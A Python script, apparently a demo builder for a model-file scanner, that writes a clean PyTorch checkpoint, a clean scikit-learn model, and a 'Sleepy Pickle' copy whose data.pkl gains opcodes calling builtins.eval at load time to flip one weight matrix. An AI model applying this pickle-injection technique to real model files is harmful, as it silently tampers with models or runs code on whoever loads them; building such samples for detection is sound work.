"""Build the demo set: a clean PyTorch model, a clean scikit-learn model, and a Sleepy Pickle.

The Sleepy-Pickle'd copy is the clean PyTorch checkpoint with a few opcodes added to its
``data.pkl``: at load time it calls ``builtins.eval`` to flip the sign of one weight matrix, then
hands back the (now tampered) state dict, so the model still loads and runs. It imports nothing
else, opens no file and touches no network.

Usage: python examples/build_demo.py OUT_DIR
"""

from __future__ import annotations

import pickle
import struct
import sys
import zipfile
from pathlib import Path

import joblib
import numpy as np
import torch
from sklearn.linear_model import LogisticRegression

_PAYLOAD = "(sd['0.weight'].mul_(-1), sd)[1]"


def _model() -> torch.nn.Module:
    torch.manual_seed(0)
    return torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 2))


def _sleepy(data_pkl: bytes) -> bytes:
    """Append a load-time eval to a protocol-2 pickle whose result is the state dict."""
    if not data_pkl.endswith(pickle.STOP):
        raise ValueError("data.pkl does not end with STOP")
    body = data_pkl[:-1]
    memo = 4000  # a memo slot the original stream does not use
    code = _PAYLOAD.encode()
    return b"".join(
        [
            body,
            pickle.LONG_BINPUT + struct.pack("<I", memo),
            pickle.POP,
            pickle.GLOBAL + b"builtins\neval\n",
            pickle.MARK,
            pickle.BINUNICODE + struct.pack("<I", len(code)) + code,
            pickle.EMPTY_DICT,
            pickle.BINUNICODE + struct.pack("<I", 2) + b"sd",
            pickle.LONG_BINGET + struct.pack("<I", memo),
            pickle.SETITEM,
            pickle.TUPLE,
            pickle.REDUCE,
            pickle.STOP,
        ]
    )


def _rewrite_zip(source: Path, target: Path) -> None:
    with (
        zipfile.ZipFile(source) as original,
        zipfile.ZipFile(target, "w", zipfile.ZIP_STORED) as out,
    ):
        for info in original.infolist():
            data = original.read(info.filename)
            if info.filename.endswith("/data.pkl"):
                data = _sleepy(data)
            out.writestr(info.filename, data)


def build(out_dir: Path) -> list[Path]:
    out_dir.mkdir(parents=True, exist_ok=True)
    model = _model()
    clean_pt = out_dir / "classifier.pt"
    torch.save(model.state_dict(), clean_pt)

    rng = np.random.default_rng(0)
    features = rng.normal(size=(64, 4))
    labels = (features[:, 0] > 0).astype(int)
    clean_sk = out_dir / "logreg.joblib"
    joblib.dump(LogisticRegression().fit(features, labels), clean_sk)

    sleepy = out_dir / "classifier-sleepy.pt"
    _rewrite_zip(clean_pt, sleepy)
    return [clean_pt, clean_sk, sleepy]


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit(__doc__)
    for path in build(Path(sys.argv[1])):
        print(f"built {path}")
